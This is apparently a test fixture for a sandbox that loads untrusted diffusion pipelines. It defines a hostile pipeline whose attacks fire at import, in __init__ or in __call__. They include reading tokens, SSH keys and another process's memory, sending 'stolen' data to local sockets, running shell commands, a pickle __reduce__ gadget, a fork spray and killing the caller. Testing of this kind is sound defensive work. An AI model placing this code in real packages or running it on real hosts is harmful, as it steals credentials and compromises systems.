"""A pipeline that attacks its host at import, in __init__ or in __call__, chosen by PARAMS.

The tests replace the PARAMS line with concrete ports and paths before hashing the bytes; every attack
either raises (and the caller gets a RemoteError) or returns data the test inspects.
"""

import ctypes
import os
import pickle
import signal
import socket
import struct
import subprocess
import time
import urllib.request

import msgpack
import torch
from diffusers import DiffusionPipeline

PARAMS = {}


class Box:
    def __reduce__(self):
        return (os.system, ("touch " + PARAMS["marker"],))


def _env():
    return dict(os.environ)


def _read(path):
    with open(path, "rb") as handle:
        return handle.read()


def _write(path):
    with open(path, "w") as handle:
        handle.write("pwned")
    return "written"


def _tcp():
    socket.create_connection(("127.0.0.1", PARAMS["port"]), timeout=2).sendall(b"stolen")


def _http():
    return urllib.request.urlopen(f"http://127.0.0.1:{PARAMS['port']}/steal", timeout=2).read()


def _unix(address):
    client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    client.connect(address)
    client.sendall(b"stolen")


def _raw_frame(body, fds=0):
    os.write(3, struct.pack(">IB", len(body), fds) + body)
    time.sleep(30)


def _deep():
    value = []
    for _ in range(5000):
        value = [value]
    return value


ATTACKS = {
    "none": lambda: None,
    "env": _env,
    "read_token": lambda: _read(PARAMS["token_file"]),
    "read_ssh": lambda: _read(PARAMS["ssh_key"]),
    "read_hub_cache": lambda: _read(PARAMS["hub_file"]),
    "read_caller_environ": lambda: _read(f"/proc/{PARAMS['caller_pid']}/environ"),
    "read_caller_mem": lambda: _read(f"/proc/{PARAMS['caller_pid']}/mem"),
    "rewrite_cache": lambda: _write(PARAMS["cache_file"]),
    "write_site_packages": lambda: _write(os.path.join(os.path.dirname(torch.__file__), "safeloader_pwned.py")),
    "tcp": _tcp,
    "http": _http,
    "unix_path": lambda: _unix(PARAMS["unix_path"]),
    "unix_abstract": lambda: _unix("\0" + PARAMS["abstract_name"]),
    "subprocess": lambda: subprocess.run(["/bin/touch", PARAMS["marker"]], check=True),
    "os_system": lambda: os.system("touch " + PARAMS["marker"]),
    "ctypes": lambda: ctypes.CDLL(None).system(("touch " + PARAMS["marker"]).encode()),
    "fork_spray": lambda: [os.fork() for _ in range(50)],
    "kill_caller": lambda: os.kill(PARAMS["caller_pid"], signal.SIGTERM),
    "memory_hog": lambda: len(bytearray(PARAMS["hog_bytes"])),
    "raise": lambda: (_ for _ in ()).throw(ValueError("boom from the pipeline")),
    "reduce": lambda: {"box": Box(), "pickled": pickle.dumps(Box())},
    "deep": _deep,
    "huge": lambda: b"x" * (80 * 1024 * 1024),
    "exit": lambda: os._exit(3),
    "loop": lambda: [None for _ in iter(int, 1)],
    "raw_oversized": lambda: _raw_frame(b"", 0) if False else os.write(3, struct.pack(">IB", 2**31, 0)) and time.sleep(30),
    "raw_pickle": lambda: _raw_frame(msgpack.packb({"op": "result", "value": msgpack.ExtType(42, pickle.dumps(Box()))})),
}


def attack(name):
    if name:
        return ATTACKS[name]()
    return None


attack(PARAMS.get("at_import"))


class HostilePipeline(DiffusionPipeline):
    def __init__(self, unet, scheduler):
        super().__init__()
        self.register_modules(unet=unet, scheduler=scheduler)
        attack(PARAMS.get("at_init"))

    def __call__(self, name="none"):
        return attack(name)
